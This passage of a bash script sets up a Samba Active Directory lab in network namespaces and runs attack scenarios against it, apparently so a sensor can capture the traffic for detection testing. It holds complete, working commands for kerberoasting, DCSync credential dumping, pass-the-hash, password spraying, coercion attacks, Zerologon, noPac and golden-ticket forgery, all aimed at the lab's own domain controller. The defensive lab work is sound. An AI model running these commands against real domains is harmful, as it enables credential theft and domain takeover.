    echo "$(tcpdump -nr "$1" "src $CLIENT_IP and dst $DC_IP" 2>/dev/null | wc -l)" \
        "$(tcpdump -nr "$1" "src $DC_IP and dst $CLIENT_IP" 2>/dev/null | wc -l)"
}

# Captures dc0 and the sensor's end of the mirror while the client makes some traffic; the mirror
# must have seen the same frames in both directions.
cmd_check_mirror() {
    require_up
    local dir=$STATE/mirror-check dc0_pid sensor_pid at_dc0 at_sensor
    mkdir -p "$dir"
    capture_start $NS_DC dc0 "$dir/dc0.pcap"
    dc0_pid=$CAPTURE_PID
    capture_start $NS_SENSOR sensor0 "$dir/sensor0.pcap"
    sensor_pid=$CAPTURE_PID
    in_client 'dig +short $DC_FQDN >/dev/null
        smbclient -s $CSMB //$DC_IP/share -U "$DOMAIN/alice%$ALICE_PW" --use-kerberos=off -c "get readme.txt /dev/null"
        ldapsearch -x -H ldap://$DC_IP -b "" -s base >/dev/null' >/dev/null 2>&1 || true
    capture_stop $dc0_pid "$dir/dc0.pcap"
    capture_stop $sensor_pid "$dir/sensor0.pcap"
    at_dc0=$(directions "$dir/dc0.pcap")
    at_sensor=$(directions "$dir/sensor0.pcap")
    printf '%-8s client->dc %5s   dc->client %5s\n' dc0 $at_dc0 sensor0 $at_sensor
    rm -rf "$dir"
    # shellcheck disable=SC2086 # two numbers
    set -- $at_sensor
    if [ "$at_dc0" = "$at_sensor" ] && [ "$1" -gt 0 ] && [ "$2" -gt 0 ]; then
        echo "mirror ok: sensor0 sees both directions, the same frames as dc0"
    else
        echo "mirror MISMATCH"
        return 1
    fi
}

# ------------------------------------------------------------------------------ scenarios
#
# Each scenario is a function run inside the client namespace (env.sh's variables are set, the
# working directory is $CLIENT) under `set -e`: it fails when a step that must work against Samba
# does not, and checks that attacks got what they came for. Its output goes to
# $STATE/logs/scenario-NAME.log.

# Fails the scenario unless FILE contains PATTERN (an extended regex).
expect_in() { grep -qE -- "$1" "$2" || { echo "expected /$1/ in $2" >&2; return 1; }; }

scenario_benign() {
    kdestroy 2>/dev/null || true
    kinit alice <<<"$ALICE_PW" >/dev/null
    kvno cifs/$DC_FQDN ldap/$DC_FQDN host/$DC_FQDN
    klist
    # SMB with NTLM (by address, no ticket can be used) and with Kerberos (by name, from the ccache).
    smbclient -s $CSMB //$DC_IP/share -U "$DOMAIN/alice%$ALICE_PW" --use-kerberos=off \
        -c "ls; get readme.txt $CLIENT/readme-ntlm.txt; put $CLIENT/users.txt users-alice.txt; rm users-alice.txt"
    smbclient -s $CSMB //$DC_FQDN/share --use-kerberos=required --use-krb5-ccache=$KRB5CCNAME \
        -c "ls; get readme.txt $CLIENT/readme-krb.txt"
    smbclient -s $CSMB //$DC_FQDN/sysvol --use-kerberos=required --use-krb5-ccache=$KRB5CCNAME -c "ls"
    expect_in hello "$CLIENT/readme-ntlm.txt"
    expect_in hello "$CLIENT/readme-krb.txt"
    ldapsearch -LLL -x -H ldap://$DC_IP -b "" -s base defaultNamingContext dnsHostName
    ldapsearch -LLL -x -H ldap://$DC_FQDN -D alice@$DNSDOMAIN -w "$ALICE_PW" -b $BASE "(sAMAccountName=alice)" memberOf
    ldapsearch -LLL -N -Y GSSAPI -H ldap://$DC_FQDN -b $BASE "(objectClass=group)" cn | grep -c '^cn:'
    dig +short -t SRV _ldap._tcp.dc._msdcs.$DNSDOMAIN
    dig +short -t SRV _kerberos._tcp.$DNSDOMAIN
    dig +short $DC_FQDN | grep -qx "$DC_IP"
    dig +short -x $DC_IP
}

scenario_kerberoast() {
    # GetUserSPNs reads KRB5CCNAME even with a password, and fails when no kinit made that file yet.
    env -u KRB5CCNAME $IMP GetUserSPNs.py -dc-ip $DC_IP -request -outputfile kerberoast.hashes "$REALM/alice:$ALICE_PW"
    expect_in '^\$krb5tgs\$23\$\*svc_sql\$' kerberoast.hashes
}

scenario_asreproast() {
    $IMP GetNPUsers.py -dc-ip $DC_IP -usersfile users.txt -no-pass -format hashcat -outputfile asrep.hashes "$REALM/"
    expect_in '^\$krb5asrep\$23\$bob@' asrep.hashes
}

scenario_dcsync() {
    $IMP secretsdump.py -just-dc-ntlm "$DOMAIN/Administrator:$ADMIN_PW@$DC_IP" >dcsync.out
    cat dcsync.out
    expect_in '^krbtgt:502:' dcsync.out
}

nt_hash() { python -c 'import sys; from impacket.ntlm import compute_nthash; print(compute_nthash(sys.argv[1]).hex())' "$1"; }

scenario_pass-the-hash() {
    printf 'shares\nuse share\nls\nexit\n' >smb-commands.txt
    $IMP smbclient.py -hashes ":$(nt_hash "$ADMIN_PW")" -inputfile smb-commands.txt "$DOMAIN/Administrator@$DC_IP" >pth.out
    cat pth.out
    expect_in 'readme.txt' pth.out
}

scenario_overpass-the-hash() {
    # First Administrator's own logon from this computer, in AES as Windows asks: the account has
    # AES keys and the computer uses AES, which is what makes the RC4-only request stand out.
    kinit Administrator <<<"$ADMIN_PW" >/dev/null
    kdestroy
    rm -f Administrator.ccache
    $IMP getTGT.py -hashes ":$(nt_hash "$ADMIN_PW")" -dc-ip $DC_IP "$REALM/Administrator"
    printf 'shares\nuse share\nls\nexit\n' >smb-commands.txt
    KRB5CCNAME=Administrator.ccache $IMP smbclient.py -k -no-pass -dc-ip $DC_IP -inputfile smb-commands.txt \
        "$REALM/Administrator@$DC_FQDN" >opth.out
    cat opth.out
    expect_in 'readme.txt' opth.out
}

# Tries WRONG_PWS then the right password with a command template (PW is replaced); every wrong
# one must fail and the right one must work.
guess_passwords() {
    local pw
    for pw in $WRONG_PWS; do
        if "$@" "$pw" >/dev/null 2>&1; then
            echo "wrong password $pw worked" >&2
            return 1
        fi
        echo "$pw: refused"
    done
    "$@" "$CAROL_PW" >/dev/null 2>&1
    echo "$CAROL_PW: accepted"
}

kinit_carol() { kinit carol <<<"$1"; }
smb_carol() { smbclient -s $CSMB -L //$DC_IP -U "$DOMAIN/carol%$1" --use-kerberos=off; }
ldap_carol() { ldapsearch -x -H ldap://$DC_IP -D carol@$DNSDOMAIN -w "$1" -b "" -s base; }

scenario_bruteforce-kerberos() { guess_passwords kinit_carol; }
scenario_bruteforce-ntlm() { guess_passwords smb_carol; }
scenario_bruteforce-ldap() { guess_passwords ldap_carol; }

scenario_spray() {
    local user
    while read -r user; do
        if kinit "$user" <<<'Autumn2025!' >/dev/null 2>&1; then echo "kerberos $user: accepted"; else echo "kerberos $user: refused"; fi
        if smbclient -s $CSMB -L //$DC_IP -U "$DOMAIN/$user%Autumn2025!" --use-kerberos=off >/dev/null 2>&1; then
            echo "ntlm $user: accepted"
        else
            echo "ntlm $user: refused"
        fi
    done <spray-users.txt
}

scenario_recon-samr() {
    # Samba answers anonymous SAMR enumeration (a default Windows DC does not).
    rpcclient -s $CSMB -U "" -N $DC_IP -c "enumdomusers" || true
    rpcclient -s $CSMB -U "$DOMAIN/alice%$ALICE_PW" $DC_IP \
        -c "querydominfo; enumdomusers; enumdomgroups; querygroupmem 0x200; getdompwinfo; lsaquery; netshareenumall" >samr.out
    $IMP samrdump.py "$DOMAIN/alice:$ALICE_PW@$DC_IP" >>samr.out
    $IMP lookupsid.py "$DOMAIN/alice:$ALICE_PW@$DC_IP" 1200 >>samr.out
    cat samr.out
    expect_in 'svc_sql' samr.out
}

scenario_recon-ldap() {
    local bind=(-LLL -x -H ldap://$DC_FQDN -D alice@$DNSDOMAIN -w "$ALICE_PW" -b $BASE)
    ldapsearch -LLL -x -H ldap://$DC_IP -b "" -s base "(objectClass=*)" namingContexts supportedSASLMechanisms
    {
        ldapsearch "${bind[@]}" "(&(objectCategory=person)(servicePrincipalName=*))" sAMAccountName servicePrincipalName
        ldapsearch "${bind[@]}" "(userAccountControl:1.2.840.113556.1.4.803:=4194304)" sAMAccountName
        ldapsearch "${bind[@]}" "(adminCount=1)" sAMAccountName
        ldapsearch "${bind[@]}" "(cn=Domain Admins)" member
        ldapsearch "${bind[@]}" "(objectClass=computer)" dNSHostName operatingSystem
        $IMP GetADUsers.py -all -dc-ip $DC_IP "$REALM/alice:$ALICE_PW"
    } >ldap-recon.out
    cat ldap-recon.out
    expect_in 'servicePrincipalName: MSSQLSvc' ldap-recon.out
    expect_in 'sAMAccountName: bob' ldap-recon.out
}

scenario_psexec() {
    # Expected to fail at service creation; the scenario checks the attempt got that far.
    echo exit | timeout 60 $IMP psexec.py "$DOMAIN/Administrator:$ADMIN_PW@$DC_IP" whoami >psexec.out 2>&1 || true
    cat psexec.out
    expect_in 'Uploading file' psexec.out
    expect_in 'Error creating service' psexec.out
}

scenario_axfr() {
    # Expected to be refused: Samba's internal DNS answers a transfer with the SOA only.
    {
        dig AXFR $DNSDOMAIN @$DC_IP
        dig AXFR _msdcs.$DNSDOMAIN @$DC_IP
        dig IXFR=1 $DNSDOMAIN @$DC_IP
    } >axfr.out || true
    cat axfr.out
    expect_in 'SOA' axfr.out
}

# ---- LDAP inside SASL: integrity only with Kerberos and with NTLM, and sealed.

# The searches the three SASL scenarios make: SPNs, Domain Admins' members, adminCount=1.
sasl_searches() {
    ldapsearch -LLL -N -Y GSSAPI "$@" -H ldap://$DC_FQDN -b $BASE "(&(objectCategory=person)(servicePrincipalName=*))" sAMAccountName servicePrincipalName
    ldapsearch -LLL -N -Y GSSAPI "$@" -H ldap://$DC_FQDN -b $BASE "(cn=Domain Admins)" member
    ldapsearch -LLL -N -Y GSSAPI "$@" -H ldap://$DC_FQDN -b $BASE "(adminCount=1)" sAMAccountName
}

scenario_ldap-sign-kerberos() {
    kdestroy 2>/dev/null || true
    kinit alice <<<"$ALICE_PW" >/dev/null
    # maxssf=1: a security layer with integrity and no confidentiality (GSS wrap tokens, Sealed flag clear).
    sasl_searches -O maxssf=1 >sign-krb.out 2>sasl.err
    cat sasl.err sign-krb.out
    expect_in 'SASL SSF: 1$' sasl.err
    expect_in 'servicePrincipalName: MSSQLSvc' sign-krb.out
}

scenario_ldap-sign-ntlm() {
    LDAP_PASSWORD=$ALICE_PW python $TOOLS/ldap_ntlm_sign.py $DC_IP $DOMAIN alice $BASE \
        "(&(objectCategory=person)(servicePrincipalName=*))" "(cn=Domain Admins)" "(adminCount=1)" >sign-ntlm.out
    cat sign-ntlm.out
    expect_in 'CN=svc_sql' sign-ntlm.out
}

scenario_ldap-seal() {
    kdestroy 2>/dev/null || true
    kinit alice <<<"$ALICE_PW" >/dev/null
    sasl_searches >seal.out 2>sasl.err
    cat sasl.err seal.out
    expect_in 'SASL SSF: 256$' sasl.err
    expect_in 'servicePrincipalName: MSSQLSvc' seal.out
}

# ---- DCE-RPC: secrets, enumeration, coercion, remote execution.

scenario_dpapi-backupkey() {
    # impacket reads the secrets with LsarRetrievePrivateData, which Samba does not implement.
    timeout 60 $IMP dpapi.py backupkeys -t "$DOMAIN/Administrator:$ADMIN_PW@$DC_IP" >dpapi.out 2>&1 || true
    LSA_PASSWORD=$ADMIN_PW python $TOOLS/lsa_backupkey.py $DOMAIN Administrator $DC_IP >>dpapi.out
    cat dpapi.out
    expect_in 'nca_s_op_rng_error' dpapi.out
    expect_in '^G\$BCKUPKEY_[0-9A-F-]{36}: [0-9]+ bytes' dpapi.out
}

scenario_session-enum() {
    # Samba answers NetrSessionEnum to administrators only (Windows to every user until hardened).
    RPC_PASSWORD=$ALICE_PW python $TOOLS/rpc_attacks.py sessions $DC_IP $DOMAIN alice - >sessions.out
    RPC_PASSWORD=$ADMIN_PW python $TOOLS/rpc_attacks.py sessions $DC_IP $DOMAIN Administrator - >>sessions.out
    rpcclient -s $CSMB -U "$DOMAIN/alice%$ALICE_PW" $DC_IP -c "netsessenum; netshareenumall" >>sessions.out 2>&1 || true
    cat sessions.out
    expect_in 'NetrSessionEnum level 10: .*access_denied' sessions.out
    expect_in 'session .*Administrator' sessions.out
    expect_in 'share sysvol' sessions.out
}

scenario_petitpotam() {
    RPC_PASSWORD=$ALICE_PW python $TOOLS/rpc_attacks.py efsrpc $DC_IP $DOMAIN alice $CLIENT_IP >efsrpc.out
    cat efsrpc.out
    expect_in 'lsarpc EfsRpcOpenFileRaw' efsrpc.out
    expect_in 'lsarpc EfsRpcEncryptFileSrv' efsrpc.out
    expect_in 'efsrpc: open refused' efsrpc.out
}

scenario_printerbug() {
    RPC_PASSWORD=$ALICE_PW python $TOOLS/rpc_attacks.py printerbug $DC_IP $DOMAIN alice $CLIENT_IP >printerbug.out
    cat printerbug.out
    expect_in 'RpcOpenPrinter: answered' printerbug.out
    # Samba refuses to notify the client (it does not even try to connect back).
    expect_in 'RpcRemoteFindFirstPrinterChangeNotificationEx: .*RPC_S_SERVER_UNAVAILABLE' printerbug.out
}

scenario_dfscoerce() {
    RPC_PASSWORD=$ALICE_PW python $TOOLS/rpc_attacks.py dfscoerce $DC_IP $DOMAIN alice $CLIENT_IP >dfscoerce.out
    cat dfscoerce.out
    expect_in 'NetrDfsRemoveStdRoot: ' dfscoerce.out
    expect_in 'NetrDfsAddStdRoot: ' dfscoerce.out
}

scenario_zerologon() {
    python $TOOLS/rpc_attacks.py zerologon $DC_IP $DOMAIN ${DC_NAME^^} - >zerologon.out
    cat zerologon.out
    expect_in 'try 5 NetrServerAuthenticate3: .*STATUS_ACCESS_DENIED' zerologon.out
}

scenario_timeroast() {
    # The first RIDs (DC1$ is 1000) and the range of the lab's accounts (client1$ and filesrv01$
    # among them): 40 requests, answered for the computer accounts only.
    {
        python $TOOLS/timeroast.py $DC_IP 1000 5
        python $TOOLS/timeroast.py $DC_IP 1100 35
    } >timeroast.out
    cat timeroast.out
    expect_in '^RID 1000: 68-byte answer' timeroast.out
    expect_in '^RID 1103: no answer' timeroast.out
}

scenario_atexec() {
    timeout 60 $IMP atexec.py "$DOMAIN/Administrator:$ADMIN_PW@$DC_IP" whoami >atexec.out 2>&1 || true
    cat atexec.out
    expect_in 'STATUS_OBJECT_NAME_NOT_FOUND' atexec.out
}

scenario_wmiexec() {
    timeout 60 $IMP wmiexec.py -nooutput "$DOMAIN/Administrator:$ADMIN_PW@$DC_IP" whoami >wmiexec.out 2>&1 || true
    cat wmiexec.out
    expect_in 'abstract_syntax_not_supported' wmiexec.out
}

scenario_dcomexec() {
    local object
    for object in MMC20 ShellWindows; do
        timeout 60 $IMP dcomexec.py -nooutput -object $object "$DOMAIN/Administrator:$ADMIN_PW@$DC_IP" whoami || true
    done >dcomexec.out 2>&1
    cat dcomexec.out
    expect_in 'abstract_syntax_not_supported' dcomexec.out
}

scenario_remote-registry() {
    {
        timeout 60 $IMP reg.py "$DOMAIN/Administrator:$ADMIN_PW@$DC_IP" save -keyName 'HKLM\SAM' -o '\\'$CLIENT_IP'\share' || true
        timeout 60 $IMP reg.py "$DOMAIN/Administrator:$ADMIN_PW@$DC_IP" backup -o '\\'$CLIENT_IP'\share' || true
    } >reg.out 2>&1
    cat reg.out
    expect_in "Couldn't save HKLM.SAM" reg.out
    expect_in "Couldn't save HKLM.SYSTEM: .*ERROR_BAD_PATHNAME" reg.out
}

# ---- LDAP changes.

# Applies an LDIF from standard input as Administrator, with a simple bind (the changes in clear).
ldap_admin_modify() { ldapmodify -x -H ldap://$DC_IP -D Administrator@$DNSDOMAIN -w "$ADMIN_PW"; }

scenario_spn-modify() {
    # Targeted kerberoasting: an SPN on a user who had none, a ticket for it, the SPN removed.
    printf 'dn: CN=carol,CN=Users,%s\nchangetype: modify\nadd: servicePrincipalName\nservicePrincipalName: http/carol-web.%s\n-\n' $BASE $DNSDOMAIN |
        ldap_admin_modify
    kdestroy 2>/dev/null || true
    kinit alice <<<"$ALICE_PW" >/dev/null
    kvno http/carol-web.$DNSDOMAIN
    printf 'dn: CN=carol,CN=Users,%s\nchangetype: modify\ndelete: servicePrincipalName\nservicePrincipalName: http/carol-web.%s\n-\n' $BASE $DNSDOMAIN |
        ldap_admin_modify
}

scenario_group-modify() {
    printf 'dn: CN=Domain Admins,CN=Users,%s\nchangetype: modify\nadd: member\nmember: CN=Alice Lab,CN=Users,%s\n-\n' $BASE $BASE |
        ldap_admin_modify
    ldapsearch -LLL -x -H ldap://$DC_IP -D alice@$DNSDOMAIN -w "$ALICE_PW" -b $BASE "(cn=Domain Admins)" member >group.out
    printf 'dn: CN=Domain Admins,CN=Users,%s\nchangetype: modify\ndelete: member\nmember: CN=Alice Lab,CN=Users,%s\n-\n' $BASE $BASE |
        ldap_admin_modify
    cat group.out
    expect_in 'member: CN=Alice Lab' group.out
}

scenario_nopac() {
    local dn="CN=NOPAC01,CN=Computers,$BASE" bind=(-x -H ldap://$DC_IP -D alice@$DNSDOMAIN -w "$ALICE_PW")
    # SMB 2.1: over SMB 3 impacket and Samba disagree on the key that protects the new password.
    python $TOOLS/smb21.py addcomputer.py -computer-name 'NOPAC01$' -computer-pass "$NOPAC_PW" -dc-ip $DC_IP \
        "$DNSDOMAIN/alice:$ALICE_PW" >nopac.out 2>&1
    # noPac clears the SPNs first, so the rename is not refused for an SPN clash (SAMR set none).
    printf 'dn: %s\nchangetype: modify\nreplace: servicePrincipalName\n-\n' "$dn" | ldapmodify "${bind[@]}" >>nopac.out 2>&1
    # CVE-2021-42278: a computer renamed to the DC's name without its $. Samba refuses it.
    printf 'dn: %s\nchangetype: modify\nreplace: sAMAccountName\nsAMAccountName: %s\n-\n' "$dn" $DC_NAME |
        ldapmodify "${bind[@]}" >>nopac.out 2>&1 || true
    rm -f 'NOPAC01$.ccache' Administrator@cifs_*.ccache
    $IMP getTGT.py -dc-ip $DC_IP "$REALM/NOPAC01\$:$NOPAC_PW" >>nopac.out 2>&1
    # CVE-2021-42287's second half: S4U2self for Administrator with the machine's TGT.
    KRB5CCNAME='NOPAC01$.ccache' timeout 60 $IMP getST.py -self -impersonate Administrator -altservice cifs/$DC_FQDN \
        -k -no-pass -dc-ip $DC_IP "$REALM/NOPAC01\$" >>nopac.out 2>&1 || true
    ldapdelete -x -H ldap://$DC_IP -D Administrator@$DNSDOMAIN -w "$ADMIN_PW" "$dn"
    cat nopac.out
    expect_in 'Successfully added machine account NOPAC01' nopac.out
    expect_in "must have a trailing" nopac.out
    expect_in 'Saving ticket in NOPAC01' nopac.out
}

# ---- Logons and tickets that should not be.

scenario_honeytoken() {
    kdestroy 2>/dev/null || true
    kinit honey_admin <<<"$HONEY_PW" >/dev/null
    klist
    smbclient -s $CSMB -L //$DC_IP -U "$DOMAIN/honey_admin%$HONEY_PW" --use-kerberos=off
}

scenario_golden-ticket() {
    local sid aes
    # The whole DCSync: -just-dc-user's single-object replication (EXOP_REPL_OBJ) fails in impacket
    # against Samba ("byte indices must be integers").
    $IMP secretsdump.py -just-dc "$DOMAIN/Administrator:$ADMIN_PW@$DC_IP" >golden.out
    aes=$(sed -n 's/^krbtgt:aes256-cts-hmac-sha1-96:\([0-9a-f]*\)$/\1/p' golden.out)
    [ -n "$aes" ] || { echo "no krbtgt AES key in the DCSync output" >&2; return 1; }
    sid=$(rpcclient -s $CSMB -U "$DOMAIN/alice%$ALICE_PW" $DC_IP -c lsaquery | sed -n 's/^Domain Sid: //p')
    rm -f Administrator.ccache
    # The forged TGT is made offline; only its use is on the wire. Without KRB5CCNAME, which
    # ticketer would otherwise copy into the new cache ahead of the forged ticket.
    env -u KRB5CCNAME $IMP ticketer.py -aesKey "$aes" -domain-sid "$sid" -domain $DNSDOMAIN Administrator >>golden.out 2>&1
    printf 'shares\nexit\n' >smb-commands.txt
    KRB5CCNAME=Administrator.ccache timeout 60 $IMP smbclient.py -k -no-pass -dc-ip $DC_IP -inputfile smb-commands.txt \
        "$REALM/Administrator@$DC_FQDN" >>golden.out 2>&1 || true
    grep -v '^krbtgt:' golden.out
    expect_in 'ticket in Administrator.ccache' golden.out
    expect_in 'IPC\$' golden.out
}

scenario_ldap-ping-enum() {
    python $TOOLS/ldap_ping.py $DC_IP $DNSDOMAIN alice bob carol Administrator svc_sql jsmith mjones admin backup \
        sqladmin test helpdesk webadmin jdoe operator scanner svc_backup itsupport >ldap-ping.out
    cat ldap-ping.out
    expect_in '^cldap alice: LOGON_SAM_LOGON_RESPONSE_EX' ldap-ping.out
    expect_in '^ldap jsmith: LOGON_SAM_USER_UNKNOWN_EX' ldap-ping.out
}

scenario_computer-ntlm() {
    smbclient -s $CSMB //$DC_IP/share -U "$DOMAIN/filesrv01\$%$FILESRV_PW" --use-kerberos=off -c "ls" >computer.out
    cat computer.out
    expect_in 'readme.txt' computer.out
}

scenario_account-enum() {
    $IMP GetNPUsers.py -dc-ip $DC_IP -usersfile enum-users.txt -no-pass "$REALM/" >enum.out 2>&1 || true
    cat enum.out
    expect_in "User alice doesn't have UF_DONT_REQUIRE_PREAUTH" enum.out
}

scenario_winevents-syslog() {
    local sid
    sid=$(rpcclient -s $CSMB -U "$DOMAIN/alice%$ALICE_PW" $DC_IP -c lsaquery | sed -n 's/^Domain Sid: //p')
    python $TOOLS/winevents_syslog.py $SENSOR_IP $SYSLOG_PORT $DOMAIN $DNSDOMAIN "$sid" $DC_NAME >winevents.out
    cat winevents.out
    expect_in '^qradar 4726 old_user30$' winevents.out
}

scenario_exists() { [ -n "${WHAT[$1]:-}" ]; }

# Runs one scenario in the client namespace, with a pcap of the mirror when CAP=1.
run_scenario() {
    local name=$1 started=$SECONDS pcap="" capture="" rc=0 frames=""
    local log=$LOGS/scenario-$name.log
    if [ "$CAP" = 1 ]; then
        mkdir -p "$CAP_DIR"
        pcap=$CAP_DIR/$name.pcap
        capture_start ${CAPTURE_ON[$name]:-$NS_DC span0} "$pcap"
        capture=$CAPTURE_PID
    fi
    echo "### scenario $name: ${WHAT[$name]}" >"$log"
    timeout 300 bash -c 'in_client "$@"' _ "set -Eeo pipefail; $(declare -f expect_in nt_hash guess_passwords kinit_carol smb_carol ldap_carol sasl_searches ldap_admin_modify "scenario_$name"); scenario_$name" \
        >>"$log" 2>&1 || rc=$?
    if [ -n "$capture" ]; then
        capture_stop "$capture" "$pcap"
        frames=", $(tcpdump -nr "$pcap" 2>/dev/null | wc -l) frames in $pcap"
    fi
    if [ $rc = 0 ]; then
        log "scenario $name: ok ($((SECONDS - started)) s$frames)"
    else
        log "scenario $name: FAILED, rc $rc ($((SECONDS - started)) s$frames); the end of $log:"
        tail -8 "$log" >&2
    fi
    return $rc
}

cmd_scenario() {
    local name failed=""
    [ $# -gt 0 ] || die "usage: lab.sh scenario list|all|NAME..."
    if [ "$1" = list ]; then
        for name in $SCENARIOS; do printf '%-20s %s\n' "$name" "${WHAT[$name]}"; done
        return 0
    fi
    [ "$1" = all ] && set -- $SCENARIOS
    for name in "$@"; do scenario_exists "$name" || die "no scenario $name (lab.sh scenario list)"; done
    require_up
    for name in "$@"; do run_scenario "$name" || failed+=" $name"; done
    if [ -n "$failed" ]; then
        log "$# scenarios, failed:$failed"
        return 1
    fi
    log "$# scenarios, all ok"
}

# ------------------------------------------------------------------------------ main

[ "$(id -u)" = 0 ] || die "the lab must run as root: it makes network namespaces and installs packages"
# run_scenario's timeout runs in_client in a new bash: it needs these.
export -f in_client
export CLIENT NS_CLIENT

case ${1:-} in
up) cmd_up ;;
down) cmd_down ;;
status) cmd_status ;;
scenario)
    shift
    cmd_scenario "$@"
    ;;
check-mirror) cmd_check_mirror ;;
exec)
    shift
    [ $# -ge 2 ] || die "usage: lab.sh exec dc|client|sensor CMD..."
    where=$1
    shift
    case $where in
    dc) in_dc "$*" ;;
    client) in_client "$*" ;;
    sensor) in_sensor "$*" ;;
    *) die "exec: no namespace $where (dc, client or sensor)" ;;
    esac
    ;;
*)
    sed -n '2,14p' "$0" >&2
    exit 2
    ;;
esac
